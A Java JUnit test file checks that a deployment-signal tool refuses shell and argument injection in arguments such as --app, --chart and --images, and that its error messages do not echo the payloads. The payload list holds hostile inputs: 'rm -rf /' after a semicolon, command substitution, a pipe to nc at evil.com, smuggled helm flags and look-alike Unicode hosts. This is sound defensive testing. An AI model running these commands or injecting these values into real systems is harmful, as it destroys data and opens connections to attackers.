package dev.pier.signal;

import static dev.pier.signal.SignalFixtures.SEED_API;
import static dev.pier.signal.SignalFixtures.SEED_IMAGES;
import static dev.pier.signal.SignalFixtures.SEED_WEB;
import static dev.pier.signal.SignalFixtures.refused;
import static dev.pier.signal.SignalFixtures.seed;
import static dev.pier.signal.SignalFixtures.shopSignal;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.pier.signal.SignalFixtures.Signal;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Shell and argument injection in every argument. Nothing is ever run through a shell, but the
 * grammars must refuse these anyway, and no message may echo the payload raw or at length.
 */
class InjectionTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final Map<String, String> PAYLOADS = new LinkedHashMap<>();

    static {
        PAYLOADS.put("semicolon", "pytoya; rm -rf /");
        PAYLOADS.put("command substitution", "$(id)");
        PAYLOADS.put("backticks", "`id`");
        PAYLOADS.put("newline", "x\ny");
        PAYLOADS.put("smuggled helm flag", "--set foo=bar");
        PAYLOADS.put("helm flag after a value", " --set image.tag=evil");
        PAYLOADS.put("NUL", "\u0000");
        PAYLOADS.put("pipe", "|nc evil.com 1");
        PAYLOADS.put("quotes", "'\"");
        PAYLOADS.put("very long", "a".repeat(10_000));
        PAYLOADS.put("cyrillic look-alike host", "gh\u0441r.io");
        PAYLOADS.put("right-to-left override", "\u202Eoi.rchg");
    }

    /** Where each payload goes, and which argument must be blamed. */
    private static final Map<String, Injection> TARGETS = new LinkedHashMap<>();

    static {
        TARGETS.put("--app", new Injection("--app", p -> seed().app(p)));
        TARGETS.put("--app suffix", new Injection("--app", p -> seed().app("pytoya" + p)));
        TARGETS.put("--env", new Injection("--env", p -> seed().env(p)));
        TARGETS.put("--env suffix", new Injection("--env", p -> shopSignal().env("staging" + p)));
        TARGETS.put("--chart", new Injection("--chart", p -> seed().chart(p)));
        TARGETS.put("--chart suffix", new Injection("--chart", p -> seed().chart(SignalFixtures.SEED_CHART + p)));
        TARGETS.put("--chart host", new Injection("--chart", p -> seed().chart("oci://" + p + "/acme/charts/pytoya")));
        TARGETS.put("--chart-version", new Injection("--chart-version", p -> seed().chartVersion(p)));
        TARGETS.put("--chart-version suffix", new Injection("--chart-version",
                p -> seed().chartVersion(SignalFixtures.SEED_VERSION + p)));
        TARGETS.put("--bundle suffix", new Injection("--bundle", p -> shopSignal().bundle(SignalFixtures.BUNDLE + p)));
        TARGETS.put("--images", new Injection("--images", p -> seed().images(p)));
        TARGETS.put("--images suffix", new Injection("--images", p -> seed().images(SEED_IMAGES + p)));
        TARGETS.put("--images key", new Injection("--images", p -> seed().images(json(Map.of(
                "api", SEED_API, "web", SEED_WEB, p, SEED_API)))));
        TARGETS.put("--images value", new Injection("--images.api", p -> seed().images(json(Map.of(
                "api", SEED_API + p, "web", SEED_WEB)))));
        TARGETS.put("--images value host", new Injection("--images.api", p -> seed().images(json(Map.of(
                "api", p + "/acme/pytoya/api:1", "web", SEED_WEB)))));
    }

    record Injection(String argument, Function<String, Signal> signal) {}

    static Stream<Arguments> attempts() {
        return TARGETS.entrySet().stream().flatMap(target -> PAYLOADS.entrySet().stream().map(payload ->
                argumentSet(target.getKey() + " <- " + payload.getKey(),
                        target.getValue().signal().apply(payload.getValue()), target.getValue().argument())));
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void refuses_injection_and_blames_the_argument_without_echoing_the_payload(Signal signal, String argument) {
        List<Violation> violations = refused(signal);

        assertThat(violations).extracting(Violation::argument).contains(argument);
        for (Violation violation : violations) {
            assertThat(violation.message()).hasSizeLessThan(300);
            assertThat(violation.message().chars()).as("printable ASCII only: %s", violation.message())
                    .allMatch(c -> c >= 0x20 && c <= 0x7e);
        }
    }

    private static String json(Map<String, String> images) {
        try {
            return JSON.writeValueAsString(images);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
